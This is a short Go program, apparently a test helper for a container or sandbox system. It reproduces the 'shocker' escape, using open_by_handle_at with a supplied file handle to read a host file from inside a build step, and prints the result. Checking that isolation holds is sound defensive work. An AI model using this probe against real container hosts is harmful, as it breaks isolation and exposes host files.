// Command openbyhandle is what a hostile RUN runs to read a host file the
// way the "shocker" exploit did: open_by_handle_at with a file handle taken
// on the host, relative to any mount of the host's filesystem (the root
// filesystem of the RUN is a folder on it). Arguments: the handle's type and
// its bytes in hex. It prints what it read, or the error.
package main

import (
	"encoding/hex"
	"fmt"
	"os"
	"strconv"

	"golang.org/x/sys/unix"
)

func main() {
	typ, _ := strconv.Atoi(os.Args[1])
	raw, err := hex.DecodeString(os.Args[2])
	if err != nil {
		fmt.Println("bad handle:", err)
		os.Exit(2)
	}
	mount, err := unix.Open("/", unix.O_RDONLY|unix.O_DIRECTORY, 0)
	if err != nil {
		fmt.Println("open /:", err)
		os.Exit(2)
	}
	fd, err := unix.OpenByHandleAt(mount, unix.NewFileHandle(int32(typ), raw), unix.O_RDONLY)
	if err != nil {
		fmt.Println("open_by_handle_at:", err)
		return
	}
	buf := make([]byte, 4096)
	n, _ := unix.Read(fd, buf)
	fmt.Printf("read: %s\n", buf[:n])
}
